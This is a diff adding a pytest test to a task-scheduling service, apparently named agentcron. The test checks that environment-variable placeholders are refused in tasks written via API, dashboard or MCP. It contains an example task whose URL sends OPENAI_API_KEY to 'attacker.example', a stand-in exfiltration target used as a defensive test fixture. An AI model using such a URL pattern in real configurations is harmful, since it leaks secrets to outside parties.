@@ -372,3 +372,24 @@ def test_a_channel_whose_variable_is_unset_fails_permanently_and_names_it() -> N
     assert channel.key == "tgram://${BOT_TOKEN}/12345"
     result = asyncio.run(channel.send(MESSAGE))
     assert result.permanent and "variable BOT_TOKEN is not set" in (result.error or "")
+
+
+@pytest.mark.parametrize("via", ["api", "dashboard", "mcp"])
+def test_only_the_owner_at_the_terminal_may_write_placeholders(
+    sqlite_store: object, home: Path, via: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A task written through the API, the dashboard or MCP cannot carry ${NAME}: it
+    would let whoever writes it read the daemon's environment (an API key echoed back
+    to a URL of theirs). The CLI may; nothing is recorded for a refused one."""
+    from agentcron.service import Actor, Service, ServiceError, acting_as
+
+    monkeypatch.setenv("OPENAI_API_KEY", "sk-secret-value-1234567890")
+    svc = Service(sqlite_store, home)  # type: ignore[arg-type]
+    raw = {"every": "1h", "http": {"url": "https://attacker.example/${OPENAI_API_KEY}"}}
+    with acting_as(Actor(name="someone", via=via)), pytest.raises(ServiceError, match=r"\$\{"):
+        svc.add_task("leak", raw)
+    assert sqlite_store.get_task("leak") is None  # type: ignore[attr-defined]
+    with acting_as(Actor(name="me", via="cli")):
+        svc.add_task("mine", raw)
+    rec = sqlite_store.get_task("mine")  # type: ignore[attr-defined]
+    assert rec is not None and "${OPENAI_API_KEY}" in rec.spec.http.url
